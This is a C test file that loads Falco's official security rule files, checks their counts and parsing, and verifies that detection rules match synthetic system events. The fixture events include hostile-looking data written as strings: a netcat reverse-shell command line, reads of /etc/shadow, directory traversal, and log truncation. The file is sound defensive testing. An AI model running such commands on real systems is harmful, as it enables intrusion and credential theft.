/* SPDX-License-Identifier: Apache-2.0 */
/* Falco's official rule files, unmodified: they load clean, and rules of theirs match what they should. */
#include "base/file.h"
#include "base/yaml.h"
#include "lang/rules.h"
#include "model/json_record.h"
#include "tap.h"

#include <unistd.h>

static struct lang_rules *rules;
static struct lang_scratch *scratch;
static struct model_json_reader *reader;

static const char *path_of(const char *name)
{
	static char path[4096];
	const char *shared = getenv("SHARED_DIR");

	snprintf(path, sizeof(path), "%s/data/falco-rules/%s", shared ? shared : "../shared", name);
	return path;
}

#define NEED_RULES() do { if (access(path_of("falco_rules.yaml"), R_OK) != 0) SKIP("the official rules are not here"); } while (0)

static void begin(void)
{
	scratch = lang_scratch_free(scratch);
	lang_rules_free(rules);
	rules = lang_rules_new();
}

static void add(const char *name)
{
	struct err err = ERR_INIT;

	CHECK_MSG(lang_rules_load_path(rules, path_of(name), &err) == 0, "%s: %s", name, err.text);
}

static void compile(void)
{
	struct err err = ERR_INIT;

	CHECK_MSG(lang_rules_compile(rules, &err) == 0, "%s", err.text);
	scratch = lang_scratch_new(lang_rules_program(rules));
}

static size_t count_code(const char *code)
{
	const struct lang_diag *d;
	size_t n = lang_rules_diags(rules, &d), found = 0;

	for (size_t i = 0; i < n; i++)
		found += strcmp(d[i].code, code) == 0;
	return found;
}

static void check_counts(size_t n_rules, size_t n_enabled, size_t n_skipped, size_t n_macros, size_t n_lists, size_t n_warnings)
{
	struct lang_rules_counts c;

	lang_rules_counts(rules, &c);
	CHECK_INT(c.n_errors, 0);
	CHECK_INT(c.n_rules, n_rules);
	CHECK_INT(c.n_enabled, n_enabled);
	CHECK_INT(c.n_skipped, n_skipped);
	CHECK_INT(c.n_macros, n_macros);
	CHECK_INT(c.n_lists, n_lists);
	CHECK_INT(c.n_warnings, n_warnings);
}

TEST(the_stable_rules_load_without_a_warning)
{
	NEED_RULES();
	begin();
	add("falco_rules.yaml");
	compile();
	check_counts(25, 25, 0, 87, 49, 0);
}

TEST(the_incubating_rules_load_without_a_warning)
{
	NEED_RULES();
	begin();
	add("falco-incubating_rules.yaml");
	compile();
	check_counts(31, 31, 0, 82, 54, 0);
}

TEST(the_sandbox_rules_load_without_a_warning)
{
	NEED_RULES();
	begin();
	add("falco-sandbox_rules.yaml");
	compile();
	check_counts(37, 25, 0, 183, 60, 0);
}

TEST(rules_of_plugins_are_skipped_and_counted_without_an_error)
{
	struct lang_rules_counts c;

	NEED_RULES();
	begin();
	add("k8s_audit_rules.yaml");
	compile();
	check_counts(48, 0, 48, 45, 18, 48);
	CHECK_INT(count_code("LOAD_UNKNOWN_SOURCE"), 48);
	begin();
	add("aws_cloudtrail_rules.yaml");
	compile();
	check_counts(22, 0, 22, 0, 1, 22);
	lang_rules_counts(rules, &c);
	CHECK_INT(c.n_plugins_missing, 2);
}

static void load_all(void)
{
	begin();
	add("falco_rules.yaml");
	add("falco-incubating_rules.yaml");
	add("falco-sandbox_rules.yaml");
	add("k8s_audit_rules.yaml");
	add("aws_cloudtrail_rules.yaml");
	compile();
}

TEST(all_files_load_in_sequence_as_one_set)
{
	struct lang_rules_counts c;

	NEED_RULES();
	load_all();
	lang_rules_counts(rules, &c);
	CHECK_INT(c.n_errors, 0);
	CHECK_INT(c.n_rules, 25 + 31 + 37 + 48 + 22);
	CHECK_INT(c.n_skipped, 70);
	CHECK_INT(c.n_warnings, 70);
}

TEST(every_rule_is_narrowed_to_some_events)
{
	NEED_RULES();
	load_all();
	for (size_t i = 0; i < lang_rules_count(rules); i++) {
		const struct lang_rule *r = lang_rules_at(rules, i);
		CHECK_MSG(r->skipped || !r->all_events, "%s", r->name);
	}
}

/* Characters that can be seen, as many as wrong places are. */
static size_t wrong_places(const struct yaml_file *file, const struct yaml_node *node)
{
	size_t wrong = 0;

	for (size_t i = 0; node->kind == YAML_MAPPING && i < node->n; i++)
		wrong += wrong_places(file, node->pairs[i].key) + wrong_places(file, node->pairs[i].value);
	for (size_t i = 0; node->kind == YAML_SEQUENCE && i < node->n; i++)
		wrong += wrong_places(file, node->items[i]);
	/* Each byte costs a walk from the start: every seventh is enough for the long ones. */
	for (size_t i = 0; node->kind == YAML_SCALAR && i < node->len; i += node->len > 200 ? 7 : 1) {
		unsigned line, column;
		const char *text;
		size_t len;

		if (strchr(" \n", node->text[i]) || (unsigned char)node->text[i] >= 0x80)
			continue;
		yaml_place(file, node, i, &line, &column);
		text = yaml_line(file, line, &len);
		wrong += column > len || text[column - 1] != node->text[i];
	}
	return wrong;
}

TEST(every_character_of_the_official_files_is_found_where_it_was_written)
{
	static const char *const names[] = { "falco_rules.yaml", "falco-incubating_rules.yaml", "falco-sandbox_rules.yaml", "k8s_audit_rules.yaml", "aws_cloudtrail_rules.yaml" };

	NEED_RULES();
	for (size_t i = 0; i < ARRAY_LEN(names); i++) {
		struct arena arena;
		struct yaml_file *file;
		char *text;
		size_t len;

		arena_init(&arena, 0);
		if (CHECK(file_read(path_of(names[i]), 1 << 20, &arena, &text, &len, NULL) == 0) &&
		    CHECK(yaml_parse(&arena, text, len, names[i], &file, NULL) == 0))
			CHECK_INT(wrong_places(file, file->docs[0]), 0);
		arena_done(&arena);
	}
}

/* ---- events ---- */

static const struct model_record *record_of(const char *json)
{
	const struct model_record *record = NULL;
	struct err err = ERR_INIT;

	if (!reader)
		reader = model_json_reader_new();
	CHECK_MSG(model_json_reader_read(reader, json, strlen(json), "event", 1, &record, &err) == 0, "%s: %s", err.text, json);
	return record;
}

static bool matches(const char *rule, const char *json)
{
	const struct model_record *record = record_of(json);
	uint32_t indexes[256];
	size_t n = lang_program_match(lang_rules_program(rules), scratch, record, indexes, ARRAY_LEN(indexes));

	for (size_t i = 0; i < n && i < ARRAY_LEN(indexes); i++)
		if (strcmp(lang_rules_of_program(rules, indexes[i])->name, rule) == 0)
			return true;
	return false;
}

#define OPEN_READ "\"evt.type\":\"openat\",\"evt.num\":5,\"evt.is_open_read\":true,\"fd.typechar\":\"f\",\"fd.num\":3"
#define EXEC "\"evt.type\":\"execve\",\"evt.num\":5,\"evt.res\":\"SUCCESS\",\"evt.arg.res\":0"
#define IN_CONTAINER "\"container.id\":\"0123456789ab\",\"container.image.repository\":\"docker.io/x\",\"container.start_ts\":1"

TEST(read_sensitive_file_untrusted_matches_cat_and_not_sshd)
{
	const struct lang_rule *rule;
	struct strbuf sb;

	NEED_RULES();
	load_all();
	CHECK(matches("Read sensitive file untrusted", "{" OPEN_READ ",\"fd.name\":\"/etc/shadow\",\"fd.directory\":\"/etc\",\"proc.name\":\"cat\"}"));
	CHECK(!matches("Read sensitive file untrusted", "{" OPEN_READ ",\"fd.name\":\"/etc/shadow\",\"fd.directory\":\"/etc\",\"proc.name\":\"sshd\"}"));
	CHECK(!matches("Read sensitive file untrusted", "{" OPEN_READ ",\"fd.name\":\"/etc/hosts\",\"fd.directory\":\"/etc\",\"proc.name\":\"cat\"}"));
	CHECK(!matches("Read sensitive file untrusted", "{\"evt.type\":\"openat\",\"evt.num\":5,\"evt.is_open_read\":true,\"fd.typechar\":\"f\",\"fd.num\":-2,"
		       "\"fd.name\":\"/etc/shadow\",\"proc.name\":\"cat\"}"));
	rule = lang_rules_by_name(rules, "Read sensitive file untrusted");
	strbuf_init(&sb, 10000);
	lang_format_print(rule->format, record_of("{\"evt.type\":\"openat\",\"fd.name\":\"/etc/shadow\",\"proc.aname[2]\":\"sshd\",\"user.uid\":1000}"),
			  lang_scratch_arena(scratch), &sb);
	CHECK(strstr(sb.text, "file=/etc/shadow gparent=sshd ggparent=<NA>"));
	CHECK(strstr(sb.text, "user_uid=1000"));
	strbuf_done(&sb);
}

struct example { const char *rule, *yes, *no; };

static const struct example examples[] = {
	{ "Terminal shell in container",
	  "{" EXEC "," IN_CONTAINER ",\"proc.name\":\"bash\",\"proc.tty\":34816,\"user.uid\":0,\"proc.pname\":\"runc\"}",
	  "{" EXEC "," IN_CONTAINER ",\"proc.name\":\"bash\",\"proc.tty\":0,\"user.uid\":0,\"proc.pname\":\"runc\"}" },
	{ "Contact K8S API Server From Container",
	  "{\"evt.type\":\"connect\",\"evt.num\":5,\"evt.rawres\":0,\"fd.typechar\":\"4\",\"fd.ip\":\"10.0.0.1\",\"fd.l4proto\":\"tcp\",\"fd.connected\":true,"
	  "\"fd.sip.name\":\"kubernetes.default.svc.cluster.local\"," IN_CONTAINER "}",
	  "{\"evt.type\":\"connect\",\"evt.num\":5,\"evt.rawres\":0,\"fd.typechar\":\"4\",\"fd.ip\":\"10.0.0.1\",\"fd.l4proto\":\"tcp\",\"fd.connected\":true,"
	  "\"fd.sip.name\":\"example.com\"," IN_CONTAINER "}" },
	{ "Clear Log Activities",
	  "{\"evt.type\":\"openat\",\"evt.num\":5,\"evt.is_open_write\":true,\"fd.typechar\":\"f\",\"fd.num\":3,\"evt.arg.flags\":\"O_TRUNC|O_WRONLY\","
	  "\"fd.name\":\"/var/log/syslog\",\"fd.filename\":\"syslog\",\"proc.name\":\"sh\",\"container.id\":\"host\"}",
	  "{\"evt.type\":\"openat\",\"evt.num\":5,\"evt.is_open_write\":true,\"fd.typechar\":\"f\",\"fd.num\":3,\"evt.arg.flags\":\"O_WRONLY\","
	  "\"fd.name\":\"/var/log/syslog\",\"fd.filename\":\"syslog\",\"proc.name\":\"sh\",\"container.id\":\"host\"}" },
	{ "Create Symlink Over Sensitive Files",
	  "{\"evt.type\":\"symlinkat\",\"evt.num\":5,\"evt.rawres\":0,\"evt.res\":\"SUCCESS\",\"evt.arg[target]\":\"/etc/shadow\"}",
	  "{\"evt.type\":\"symlinkat\",\"evt.num\":5,\"evt.rawres\":0,\"evt.res\":\"SUCCESS\",\"evt.arg[target]\":\"/etc/motd\"}" },
	{ "Create Hardlink Over Sensitive Files",
	  "{\"evt.type\":\"linkat\",\"evt.num\":5,\"evt.rawres\":0,\"evt.res\":\"SUCCESS\",\"evt.arg.oldpath\":\"/etc/shadow\"}",
	  "{\"evt.type\":\"linkat\",\"evt.num\":5,\"evt.rawres\":-1,\"evt.res\":\"EPERM\",\"evt.arg.oldpath\":\"/etc/motd\"}" },
	{ "Redirect STDOUT/STDIN to Network Connection in Container",
	  "{\"evt.type\":\"dup2\",\"evt.num\":5,\"evt.rawres\":0,\"fd.num\":0,\"fd.type\":\"ipv4\"," IN_CONTAINER "}",
	  "{\"evt.type\":\"dup2\",\"evt.num\":5,\"evt.rawres\":0,\"fd.num\":0,\"fd.type\":\"file\"," IN_CONTAINER "}" },
	{ "Launch Privileged Container",
	  "{\"evt.type\":\"execve\",\"evt.num\":5,\"evt.res\":\"SUCCESS\",\"proc.vpid\":1,\"container.privileged\":true," IN_CONTAINER "}",
	  "{\"evt.type\":\"execve\",\"evt.num\":5,\"evt.res\":\"SUCCESS\",\"proc.vpid\":1,\"container.privileged\":false," IN_CONTAINER "}" },
	{ "Netcat Remote Code Execution in Container",
	  "{" EXEC "," IN_CONTAINER ",\"proc.name\":\"nc\",\"proc.args\":\"10.0.0.1 99 -e /bin/sh\",\"proc.cmdline\":\"nc 10.0.0.1 99 -e /bin/sh\"}",
	  "{" EXEC "," IN_CONTAINER ",\"proc.name\":\"nc\",\"proc.args\":\"10.0.0.1 99\",\"proc.cmdline\":\"nc 10.0.0.1 99\"}" },
	{ "PTRACE anti-debug attempt",
	  "{\"evt.type\":\"ptrace\",\"evt.num\":5,\"evt.arg.request\":\"PTRACE_TRACEME\"}",
	  "{\"evt.type\":\"ptrace\",\"evt.num\":5,\"evt.arg.request\":\"PTRACE_ATTACH\"}" },
	{ "PTRACE attached to process",
	  "{\"evt.type\":\"ptrace\",\"evt.num\":5,\"evt.arg.request\":\"PTRACE_ATTACH\",\"proc.name\":\"gdb\"}",
	  "{\"evt.type\":\"ptrace\",\"evt.num\":5,\"evt.arg.request\":\"PTRACE_TRACEME\",\"proc.name\":\"gdb\"}" },
	{ "Linux Kernel Module Injection Detected",
	  "{\"evt.type\":\"finit_module\",\"evt.num\":5,\"evt.res\":\"SUCCESS\",\"thread.cap_effective\":\"CAP_SYS_MODULE\"," IN_CONTAINER "}",
	  "{\"evt.type\":\"finit_module\",\"evt.num\":5,\"evt.res\":\"SUCCESS\",\"thread.cap_effective\":\"CAP_CHOWN\"," IN_CONTAINER "}" },
	{ "Packet socket created in container",
	  "{\"evt.type\":\"socket\",\"evt.num\":5,\"evt.arg.domain\":\"AF_PACKET\"," IN_CONTAINER "}",
	  "{\"evt.type\":\"socket\",\"evt.num\":5,\"evt.arg.domain\":\"AF_INET\"," IN_CONTAINER "}" },
	{ "Fileless execution via memfd_create",
	  "{\"evt.type\":\"execve\",\"evt.num\":5,\"evt.res\":\"SUCCESS\",\"proc.is_exe_from_memfd\":true,\"proc.name\":\"x\"}",
	  "{\"evt.type\":\"execve\",\"evt.num\":5,\"evt.res\":\"SUCCESS\",\"proc.is_exe_from_memfd\":false,\"proc.name\":\"x\"}" },
	{ "Directory traversal monitored file read",
	  "{" OPEN_READ ",\"fd.nameraw\":\"/var/log/../../etc/shadow\",\"fd.name\":\"/etc/shadow\",\"fd.directory\":\"/etc\"}",
	  "{" OPEN_READ ",\"fd.nameraw\":\"/etc/shadow\",\"fd.name\":\"/etc/shadow\",\"fd.directory\":\"/etc\"}" },
};

static void check_examples(void)
{
	for (size_t i = 0; i < ARRAY_LEN(examples); i++) {
		CHECK_MSG(lang_rules_by_name(rules, examples[i].rule), "no rule %s", examples[i].rule);
		CHECK_MSG(matches(examples[i].rule, examples[i].yes), "%s does not match %s", examples[i].rule, examples[i].yes);
		CHECK_MSG(!matches(examples[i].rule, examples[i].no), "%s matches %s", examples[i].rule, examples[i].no);
	}
}

TEST(official_rules_match_what_they_are_for_and_nothing_near_it)
{
	NEED_RULES();
	load_all();
	check_examples();
}

TEST(settled_official_rules_match_the_same)
{
	NEED_RULES();
	load_all();
	lang_rules_settle(rules);
	check_examples();
}

TEST(lint_finds_the_sensitive_mount_trap_in_the_official_rules)
{
	NEED_RULES();
	begin();
	add("falco-sandbox_rules.yaml");
	compile();
	lang_rules_lint(rules);
	CHECK(count_code("LINT_UNSET_UNDER_NOT") > 0);
}

int main(int argc, char **argv)
{
	int r = tap_main(argc, argv);

	lang_scratch_free(scratch);
	lang_rules_free(rules);
	model_json_reader_free(reader);
	return r;
}
